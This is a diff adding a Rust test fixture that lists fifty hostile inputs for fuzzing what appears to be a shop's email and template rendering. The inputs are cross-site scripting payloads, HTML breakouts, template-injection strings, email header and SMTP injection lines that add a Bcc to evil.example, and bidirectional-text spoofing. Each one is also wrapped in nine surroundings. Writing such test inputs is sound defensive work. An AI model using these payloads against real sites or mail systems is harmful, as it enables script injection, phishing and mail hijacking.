@@ -1,0 +1,73 @@
+//! What somebody may write who means harm, or whose keyboard slipped.
+
+const PAYLOADS: [&str; 50] = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe src=\"https://evil.example\"></iframe>",
+    "<a href=\"javascript:alert(1)\">free</a>",
+    "<a href=https://evil.example>Unsubscribe</a>",
+    "<form action=https://evil.example><input name=card></form>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=https://evil.example>",
+    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
+    "<base href=https://evil.example/>",
+    "<object data=https://evil.example></object>",
+    "<video><source onerror=alert(1)></video>",
+    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+    "<!-- comment -->",
+    "<!--[if mso]><b>x</b><![endif]-->",
+    "<![CDATA[x]]>",
+    "</td></tr></table><h1>Your account is closed</h1>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "\" onmouseover=\"alert(1)",
+    "' onmouseover='alert(1)",
+    "\"><script>alert(1)</script>",
+    "'><img src=x onerror=alert(1)>",
+    "` onload=alert(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;",
+    "&amp;&quot;&apos;",
+    "\\u003cscript\\u003e",
+    "%3Cscript%3E",
+    "{{ 7 * 7 }}",
+    "{{ shop }}",
+    "{% for x in range(99999) %}x{% endfor %}",
+    "{% include \"layout.html.j2\" %}",
+    "{# comment #}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "\r\nBcc: evil@evil.example",
+    "\nBcc: evil@evil.example\r\n\r\n<script>alert(1)</script>",
+    "\r\n.\r\nMAIL FROM:<evil@evil.example>",
+    "=?utf-8?B?PHNjcmlwdD4=?=",
+    "\u{202e}elpmaxe.live//:sptth",
+    "\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}",
+    "\u{0}\u{1}\u{7}\u{8}\u{1b}[31m\u{7f}\u{80}\u{9f}",
+    "\u{feff}\u{200b}\u{2060}\u{fffe}\u{ffff}",
+    "\u{2028}\u{2029}\u{b}\u{c}\u{85}",
+    "Z̷̢̛͔a̶l̸g̵o̷ ",
+    "👩‍👩‍👧‍👦🏳️‍🌈",
+    "javascript:alert(1)//https://shop.example",
+    "-- \nUnsubscribe: https://evil.example/u",
+];
+
+/// Each payload alone, and in nine surroundings.
+pub(crate) fn hostile() -> Vec<String> {
+    let surrounded = |payload: &str| {
+        [
+            payload.to_owned(),
+            format!("Green tea {payload}"),
+            format!("{payload} green tea"),
+            format!("茶{payload}茶"),
+            format!("\" {payload} '"),
+            format!("<b>{payload}</b>"),
+            format!("{payload}\r\n{payload}"),
+            format!("<{payload}>"),
+            payload.repeat(500),
+            format!("{}{payload}", "a".repeat(100_000)),
+        ]
+    };
+    PAYLOADS.iter().flat_map(|payload| surrounded(payload)).collect()
+}
